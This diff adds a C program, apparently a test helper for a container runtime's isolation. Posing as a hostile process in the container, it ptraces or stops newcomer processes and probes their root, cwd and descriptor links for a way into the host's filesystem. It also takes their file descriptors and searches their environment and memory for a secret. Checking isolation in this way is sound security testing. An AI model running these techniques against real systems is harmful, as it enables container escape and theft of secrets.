@@ -1,0 +1,185 @@
+/* SPDX-License-Identifier: Apache-2.0 */
+/*
+ * watchguest: a hostile process of a container that attacks whatever comes into its pid namespace.
+ *
+ * Usage: watchguest MARKER SECRET STOP
+ *
+ * Until the file STOP is there it looks for new processes. It tries to stop and trace each of them,
+ * to come to a folder below which there is the path MARKER (a file of the host's, absolute), to
+ * take its descriptors from 3 on, and to find SECRET in its memory or environment. It prints a line
+ * for all that it gained, and at the end "seen N traced N".
+ */
+#define _GNU_SOURCE
+#include <ctype.h>
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <limits.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ptrace.h>
+#include <sys/syscall.h>
+#include <sys/uio.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+static const char *marker;
+static const char *secret;
+
+/* The marker below a link of the process. */
+static void try_folder(int pid, const char *link)
+{
+	char path[PATH_MAX];
+
+	snprintf(path, sizeof(path), "/proc/%d/%s%s", pid, link, marker);
+	if (access(path, F_OK) == 0) {
+		printf("%s: the host's tree\n", link);
+	}
+	snprintf(path, sizeof(path), "/proc/%d/%s/../../../../../../../..%s", pid, link, marker);
+	if (access(path, F_OK) == 0) {
+		printf("%s: a way to the host's tree\n", link);
+	}
+}
+
+/* Programs of the container are known by their file; rootlet's is none of these. */
+static int is_of_container(int pid)
+{
+	char path[64], target[PATH_MAX];
+	ssize_t len;
+
+	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
+	len = readlink(path, target, sizeof(target) - 1);
+	if (len < 0) {
+		return 0;
+	}
+	target[len] = '\0';
+	return strncmp(target, "/bin/", 5) == 0;
+}
+
+static void try_descriptors(int pid)
+{
+	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
+
+	for (int fd = 3; fd < 64; fd++) {
+		char path[64], target[PATH_MAX];
+		ssize_t len;
+		int got;
+
+		snprintf(path, sizeof(path), "fd/%d", fd);
+		try_folder(pid, path);
+		snprintf(path, sizeof(path), "/proc/%d/fd/%d", pid, fd);
+		len = readlink(path, target, sizeof(target) - 1);
+		if (len > 0 && !is_of_container(pid)) {
+			target[len] = '\0';
+			printf("descriptor %d: %s\n", fd, target);
+		}
+		got = pidfd < 0 ? -1 : (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);
+		if (got >= 0) {
+			if (!is_of_container(pid)) {
+				printf("took descriptor %d\n", fd);
+			}
+			close(got);
+		}
+	}
+	if (pidfd >= 0) {
+		close(pidfd);
+	}
+}
+
+static void search(const char *what, const char *text, size_t len)
+{
+	if (memmem(text, len, secret, strlen(secret))) {
+		printf("%s: the secret\n", what);
+	}
+}
+
+static void try_memory(int pid)
+{
+	static char text[1 << 20];
+	char path[64], line[512];
+	FILE *maps;
+	int mem;
+	ssize_t len;
+
+	snprintf(path, sizeof(path), "/proc/%d/environ", pid);
+	mem = open(path, O_RDONLY);
+	if (mem >= 0) {
+		len = read(mem, text, sizeof(text));
+		search("environ", text, len > 0 ? (size_t)len : 0);
+		close(mem);
+	}
+	snprintf(path, sizeof(path), "/proc/%d/mem", pid);
+	mem = open(path, O_RDONLY);
+	snprintf(path, sizeof(path), "/proc/%d/maps", pid);
+	maps = fopen(path, "r");
+	while (maps && fgets(line, sizeof(line), maps)) {
+		unsigned long from, to;
+		struct iovec here = { .iov_base = text }, there;
+
+		if (sscanf(line, "%lx-%lx rw", &from, &to) != 2 || !strstr(line, " rw-p ")) {
+			continue;
+		}
+		here.iov_len = to - from < sizeof(text) ? to - from : sizeof(text);
+		there = (struct iovec){ .iov_base = (void *)from, .iov_len = here.iov_len };
+		len = process_vm_readv(pid, &here, 1, &there, 1, 0);
+		search("process_vm_readv", text, len > 0 ? (size_t)len : 0);
+		len = mem < 0 ? -1 : pread(mem, text, here.iov_len, (off_t)from);
+		search("mem", text, len > 0 ? (size_t)len : 0);
+	}
+	if (maps) {
+		fclose(maps);
+	}
+	if (mem >= 0) {
+		close(mem);
+	}
+}
+
+/* Returns whether it could be traced. */
+static int attack(int pid)
+{
+	int traced = ptrace(PTRACE_SEIZE, pid, 0, 0) == 0;
+
+	if (traced) {
+		(void)ptrace(PTRACE_INTERRUPT, pid, 0, 0);
+	} else {
+		(void)kill(pid, SIGSTOP);
+	}
+	try_folder(pid, "root");
+	try_folder(pid, "cwd");
+	try_descriptors(pid);
+	try_memory(pid);
+	if (traced) {
+		(void)waitpid(pid, NULL, __WALL);
+		(void)ptrace(PTRACE_DETACH, pid, 0, 0);
+	} else {
+		(void)kill(pid, SIGCONT);
+	}
+	return traced;
+}
+
+int main(int argc, char **argv)
+{
+	int seen = 0, traced = 0, last = getpid();
+
+	if (argc != 4) {
+		return 2;
+	}
+	marker = argv[1];
+	secret = argv[2];
+	printf("up\n");
+	fflush(stdout);
+	while (access(argv[3], F_OK) < 0) {
+		/* Numbers are given out in order. Without a listing each is tried at once. */
+		for (int pid = last + 1; pid < last + 4; pid++) {
+			if (kill(pid, 0) == 0) {
+				traced += attack(pid);
+				seen++;
+				last = pid;
+			}
+		}
+	}
+	printf("seen %d traced %d\n", seen, traced);
+	return 0;
+}
